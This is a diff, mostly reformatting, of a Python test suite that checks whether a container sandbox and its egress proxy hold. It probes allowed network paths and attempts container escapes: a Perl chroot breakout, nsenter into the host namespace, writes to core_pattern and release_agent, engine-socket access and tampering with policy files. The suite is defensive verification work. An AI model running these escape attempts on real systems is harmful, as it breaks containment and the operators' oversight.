+            f"--http1.1 -H 'Transfer-Encoding: chunked' -T {file.name} https://allowed.test/echo?{token}"
+        )
     return digest in one and digest in two, (one + two)[-200:]
 
 
@@ -980,7 +1287,9 @@ def a_streamed_body(token):
     if connection is None:
         return False, "refused"
     with careless().wrap_socket(connection, server_hostname="allowed.test") as tls:
-        tls.sendall(f"POST /echo?{token} HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nfirst\r\n".encode())
+        tls.sendall(
+            f"POST /echo?{token} HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nfirst\r\n".encode()
+        )
         time.sleep(1.2)
         late = time.time()
         tls.sendall(b"4\r\nlast\r\n0\r\n\r\n")
@@ -1008,12 +1317,19 @@ def a_websocket(token):
         return False, "refused"
     with careless().wrap_socket(connection, server_hostname="ws.test") as tls:
         head = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
-        tls.sendall(f"GET /{token} HTTP/1.1\r\nHost: ws.test\r\n{head}Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n".encode())
+        tls.sendall(
+            f"GET /{token} HTTP/1.1\r\nHost: ws.test\r\n{head}Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n".encode()
+        )
         answer = b""
         while b"\r\n\r\n" not in answer and (more := tls.recv(1)):
             answer += more
         mask, words = b"\1\2\3\4", b"hello there"
-        tls.sendall(b"\x81" + bytes([0x80 | len(words)]) + mask + bytes(byte ^ mask[at % 4] for at, byte in enumerate(words)))
+        tls.sendall(
+            b"\x81"
+            + bytes([0x80 | len(words)])
+            + mask
+            + bytes(byte ^ mask[at % 4] for at, byte in enumerate(words))
+        )
         tls.settimeout(5)
         back = tls.recv(100)
     return status(answer) == "101" and back[2:] == words, repr(answer[:60] + back)
@@ -1045,16 +1361,23 @@ def git_clone_and_push(token):
 @check("passes", "arrives")
 def pip(token):
     with tempfile.TemporaryDirectory() as place:
-        code, words = shell(f"pip install -q --disable-pip-version-check --no-cache-dir --retries 0 --index-url https://index.test/simple/ --target {place} demo --user-agent x"
-                            .replace(" --user-agent x", "") + f" && cat {place}/demo.py && curl -sS https://index.test/any/{token}")
+        code, words = shell(
+            f"pip install -q --disable-pip-version-check --no-cache-dir --retries 0 --index-url https://index.test/simple/ --target {place} demo --user-agent x".replace(
+                " --user-agent x", ""
+            )
+            + f" && cat {place}/demo.py && curl -sS https://index.test/any/{token}"
+        )
     return code == 0 and "from the world" in words, words[-300:]
 
 
 @check("passes", "arrives")
 def npm(token):
     with tempfile.TemporaryDirectory() as place:
-        code, words = shell(f"npm install --silent --no-audit --no-fund --no-update-notifier --cache {place}/cache --registry https://npm.test/ demo"
-                            f" && cat node_modules/demo/index.js && curl -sS https://npm.test/any/{token}", cwd=place)
+        code, words = shell(
+            f"npm install --silent --no-audit --no-fund --no-update-notifier --cache {place}/cache --registry https://npm.test/ demo"
+            f" && cat node_modules/demo/index.js && curl -sS https://npm.test/any/{token}",
+            cwd=place,
+        )
     return code == 0 and "from the world" in words, words[-300:]
 
 
@@ -1064,12 +1387,19 @@ def cargo(token):
         os.makedirs(f"{place}/p/src")
         open(f"{place}/p/src/lib.rs", "w").close()
         with open(f"{place}/p/Cargo.toml", "w") as file:
-            file.write('[package]\nname = "p"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\ndemo = "0.1"\n')
+            file.write(
+                '[package]\nname = "p"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\ndemo = "0.1"\n'
+            )
         os.makedirs(f"{place}/home")
         with open(f"{place}/home/config.toml", "w") as file:
-            file.write('[source.crates-io]\nreplace-with = "world"\n[source.world]\nregistry = "sparse+https://cargo.test/index/"\n')
-        code, words = shell(f"export CARGO_HOME={place}/home; cargo fetch -q && cat {place}/home/registry/src/*/demo-0.1.0/src/lib.rs"
-                            f" && curl -sS https://cargo.test/any/{token}", cwd=f"{place}/p")
+            file.write(
+                '[source.crates-io]\nreplace-with = "world"\n[source.world]\nregistry = "sparse+https://cargo.test/index/"\n'
+            )
+        code, words = shell(
+            f"export CARGO_HOME={place}/home; cargo fetch -q && cat {place}/home/registry/src/*/demo-0.1.0/src/lib.rs"
+            f" && curl -sS https://cargo.test/any/{token}",
+            cwd=f"{place}/p",
+        )
     return code == 0 and "from the world" in words, words[-300:]
 
 
@@ -1081,10 +1411,14 @@ def apt(token):
             file.write("deb [trusted=yes allow-insecure=yes] https://apt.test/apt ./\n")
         for each in ("lists/partial", "cache/archives/partial"):
             os.makedirs(f"{place}/{each}")
-        options = f"-o Dir::Etc::SourceList={place}/sources.list -o Dir::Etc::SourceParts=/dev/null -o Dir::State::Lists={place}/lists" \
-                  f" -o Dir::Cache={place}/cache -o APT::Sandbox::User=root"
-        code, words = shell(f"apt-get {options} update -qq && cd {place} && apt-get {options} download -qq ctrkit-demo && dpkg-deb -x *.deb out"
-                            f" && cat out/usr/share/ctrkit-demo/words && curl -sS https://apt.test/any/{token}")
+        options = (
+            f"-o Dir::Etc::SourceList={place}/sources.list -o Dir::Etc::SourceParts=/dev/null -o Dir::State::Lists={place}/lists"
+            f" -o Dir::Cache={place}/cache -o APT::Sandbox::User=root"
+        )
+        code, words = shell(
+            f"apt-get {options} update -qq && cd {place} && apt-get {options} download -qq ctrkit-demo && dpkg-deb -x *.deb out"
+            f" && cat out/usr/share/ctrkit-demo/words && curl -sS https://apt.test/any/{token}"
+        )
     return code == 0 and "from the world" in words, words[-300:]
 
 
@@ -1126,7 +1460,9 @@ def found_in_files(needles, since):
 
 @check("files", "inside")
 def the_authoritys_private_key(_token):
-    found = found_in_files(SET["key"], SET["since"]) if SET["key"] else ["no key was given to look for"]
+    found = (
+        found_in_files(SET["key"], SET["since"]) if SET["key"] else ["no key was given to look for"]
+    )
     return not found, found[:5]
 
 
@@ -1148,7 +1484,15 @@ def the_policy_by_its_words(_token):
 @check("files", "inside")
 def the_policy_by_its_names(_token):
     """Write, rename, link and mount over whatever is called like it."""
-    names = ("filter.py", "policy.toml", "docker-compose.yml", "compose.yml", "compose.yaml", "compose.json", "Dockerfile.proxy")
+    names = (
+        "filter.py",
+        "policy.toml",
+        "docker-compose.yml",
+        "compose.yml",
+        "compose.yaml",
+        "compose.json",
+        "Dockerfile.proxy",
+    )
     done = []
     for path in everywhere():
         if os.path.basename(path) not in names or path.startswith(("/usr/", "/opt/")):
@@ -1157,7 +1501,10 @@ def the_policy_by_its_names(_token):
         ways = {
             "write": lambda: open(path, "a").close(),
             "rename": lambda: (os.rename(path, path + ".x"), os.rename(path + ".x", path)),
-            "rename parent": lambda: (os.rename(parent, parent + ".x"), os.rename(parent + ".x", parent)),
+            "rename parent": lambda: (
+                os.rename(parent, parent + ".x"),
+                os.rename(parent + ".x", parent),
+            ),
             "link": lambda: (os.symlink(path, path + ".l"), os.unlink(path + ".l")),
             "remount": lambda: run("mount", "-o", "remount,rw", parent)[0] == 0 or os.stat("/none"),
         }
@@ -1187,9 +1534,28 @@ def mounts_from_the_host(_token):
 
 # ---------------------------------------------------------------- the engine
 
-DROPPED = {"NET_RAW": 13, "SYS_ADMIN": 21, "SYS_PTRACE": 19, "MKNOD": 27, "NET_ADMIN": 12, "SYS_MODULE": 16, "SYS_RAWIO": 17,
-           "SYS_BOOT": 22, "SYS_NICE": 23, "SYS_RESOURCE": 24}
-ALSO = {"DAC_READ_SEARCH": 2, "LINUX_IMMUTABLE": 9, "IPC_OWNER": 15, "SYS_TIME": 25, "SYSLOG": 34, "BPF": 39, "PERFMON": 38, "MAC_ADMIN": 33}
+DROPPED = {
+    "NET_RAW": 13,
+    "SYS_ADMIN": 21,
+    "SYS_PTRACE": 19,
+    "MKNOD": 27,
+    "NET_ADMIN": 12,
+    "SYS_MODULE": 16,
+    "SYS_RAWIO": 17,
+    "SYS_BOOT": 22,
+    "SYS_NICE": 23,
+    "SYS_RESOURCE": 24,
+}
+ALSO = {
+    "DAC_READ_SEARCH": 2,
+    "LINUX_IMMUTABLE": 9,
+    "IPC_OWNER": 15,
+    "SYS_TIME": 25,
+    "SYSLOG": 34,
+    "BPF": 39,
+    "PERFMON": 38,
+    "MAC_ADMIN": 33,
+}
 
 
 @check("engine", "inside")
@@ -1223,9 +1589,17 @@ def acts_of_a_root_that_has_too_much(_token):
         "host": ("hostname", socket.gethostname()),
         "namespace": ("nsenter", "-t", "1", "-n", "ip", "link", "set", "lo", "down"),
         "unshare": ("unshare", "-m", "true"),
-        "chroot out": ("perl", "-e", "mkdir '/tmp/.c'; chroot('/tmp/.c') or exit 1; chdir('..') for 1..50; chroot('.'); exit(-e '/var/lib/docker' || -e '/var/lib/containers' ? 0 : 1)"),
+        "chroot out": (
+            "perl",
+            "-e",
+            "mkdir '/tmp/.c'; chroot('/tmp/.c') or exit 1; chdir('..') for 1..50; chroot('.'); exit(-e '/var/lib/docker' || -e '/var/lib/containers' ? 0 : 1)",
+        ),
     }
-    done = [name for name, command in tries.items() if run(*command, seconds=5)[0] == 0 and (name != "nice" or os.getpriority(0, 0) < 0)]
+    done = [
+        name
+        for name, command in tries.items()
+        if run(*command, seconds=5)[0] == 0 and (name != "nice" or os.getpriority(0, 0) < 0)
+    ]
     return not done, done
 
 
@@ -1243,7 +1617,14 @@ def user_namespaces_give_no_way(token):
 
 @check("engine", "inside")
 def no_more_than_512_processes(_token):
-    limit = next((open(path).read().strip() for path in ("/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/pids/pids.max") if os.path.exists(path)), "?")
+    limit = next(
+        (
+            open(path).read().strip()
+            for path in ("/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/pids/pids.max")
+            if os.path.exists(path)
+        ),
+        "?",
+    )
     resource.setrlimit(resource.RLIMIT_NPROC, (resource.getrlimit(resource.RLIMIT_NPROC)[1],) * 2)
     read, write = os.pipe()
     children = []
@@ -1262,7 +1643,11 @@ def no_more_than_512_processes(_token):
     os.close(read)
     for child in children:
         os.waitpid(child, 0)
-    return failure == "EAGAIN" and len(children) < 512, {"children": len(children), "failure": failure, "limit": limit}
+    return failure == "EAGAIN" and len(children) < 512, {
+        "children": len(children),
+        "failure": failure,
+        "limit": limit,
+    }
 
 
 @check("engine", "inside")
@@ -1271,17 +1656,35 @@ def memory_and_cpus_are_limited(_token):
         return next((open(path).read().split() for path in paths if os.path.exists(path)), ["?"])
 
     memory = first("/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/memory/memory.limit_in_bytes")
-    cpu = first("/sys/fs/cgroup/cpu.max") + first("/sys/fs/cgroup/cpu/cpu.cfs_quota_us", "/sys/fs/cgroup/cpu,cpuacct/cpu.cfs_quota_us")
-    return memory == ["4294967296"] and any(each == "200000" for each in cpu), {"memory": memory, "cpu": cpu}
+    cpu = first("/sys/fs/cgroup/cpu.max") + first(
+        "/sys/fs/cgroup/cpu/cpu.cfs_quota_us", "/sys/fs/cgroup/cpu,cpuacct/cpu.cfs_quota_us"
+    )
+    return memory == ["4294967296"] and any(each == "200000" for each in cpu), {
+        "memory": memory,
+        "cpu": cpu,
+    }
 
 
 @check("engine", "inside")
 def the_kernels_switches_are_read_only(_token):
     done = []
-    for path in ("/proc/sys/net/ipv6/conf/all/disable_ipv6", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/ping_group_range",
-                 "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/proc/irq/default_smp_affinity",
-                 "/sys/kernel/uevent_helper", "/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/release_agent",
-                 *glob.glob("/sys/fs/cgroup/*/release_agent")[:2], "/sys/class/net/eth0/mtu", "/sys/power/state", "/proc/kcore"):
+    for path in (
+        "/proc/sys/net/ipv6/conf/all/disable_ipv6",
+        "/proc/sys/net/ipv4/ip_forward",
+        "/proc/sys/net/ipv4/ping_group_range",
+        "/proc/sys/kernel/core_pattern",
+        "/proc/sys/kernel/hostname",
+        "/proc/sysrq-trigger",
+        "/proc/irq/default_smp_affinity",
+        "/sys/kernel/uevent_helper",
+        "/sys/fs/cgroup/pids/pids.max",
+        "/sys/fs/cgroup/pids.max",
+        "/sys/fs/cgroup/release_agent",
+        *glob.glob("/sys/fs/cgroup/*/release_agent")[:2],
+        "/sys/class/net/eth0/mtu",
+        "/sys/power/state",
+        "/proc/kcore",
+    ):
         with contextlib.suppress(OSError):
             # What is masked is /dev/null, which may be written.
             if stat.S_ISCHR(os.stat(path).st_mode):
@@ -1295,7 +1698,11 @@ def the_kernels_switches_are_read_only(_token):
     with contextlib.suppress(OSError):
         os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
         done.append("remounted /proc/sys")
-    off = open("/proc/sys/net/ipv6/conf/all/disable_ipv6").read().strip() if os.path.exists("/proc/sys/net/ipv6") else "1"
+    off = (
+        open("/proc/sys/net/ipv6/conf/all/disable_ipv6").read().strip()
+        if os.path.exists("/proc/sys/net/ipv6")
+        else "1"
+    )
     return not done and off == "1", {"written": done, "ipv6 off": off}
 
 
@@ -1303,9 +1710,18 @@ def the_kernels_switches_are_read_only(_token):
 def no_socket_of_an_engine(_token):
     paths = set(re.findall(r" (/\S+)$", open("/proc/net/unix").read(), re.M))
     for place, folders, files in os.walk("/"):
-        folders[:] = [each for each in folders if not os.path.join(place, each).startswith(("/proc", "/sys"))]
-        paths |= {os.path.join(place, each) for each in files if each.endswith((".sock", ".socket"))}
-    paths |= {"/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock"}
+        folders[:] = [
+            each for each in folders if not os.path.join(place, each).startswith(("/proc", "/sys"))
+        ]
+        paths |= {
+            os.path.join(place, each) for each in files if each.endswith((".sock", ".socket"))
+        }
+    paths |= {
+        "/var/run/docker.sock",
+        "/run/docker.sock",
+        "/run/podman/podman.sock",
+        "/run/containerd/containerd.sock",
+    }
     answered = []
     for path in paths:
         with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as one:
@@ -1328,7 +1744,11 @@ def no_device_of_the_machine(_token):
             path = os.path.join(place, each)
             with contextlib.suppress(OSError):
                 mode = os.lstat(path).st_mode
-                if (stat.S_ISBLK(mode) or stat.S_ISCHR(mode)) and each not in ORDINARY and "/pts" not in path:
+                if (
+                    (stat.S_ISBLK(mode) or stat.S_ISCHR(mode))
+                    and each not in ORDINARY
+                    and "/pts" not in path
+                ):
                     found.append(path)
     for number in ((1, 1), (8, 0), (254, 0), (10, 200)):
         with contextlib.suppress(OSError):
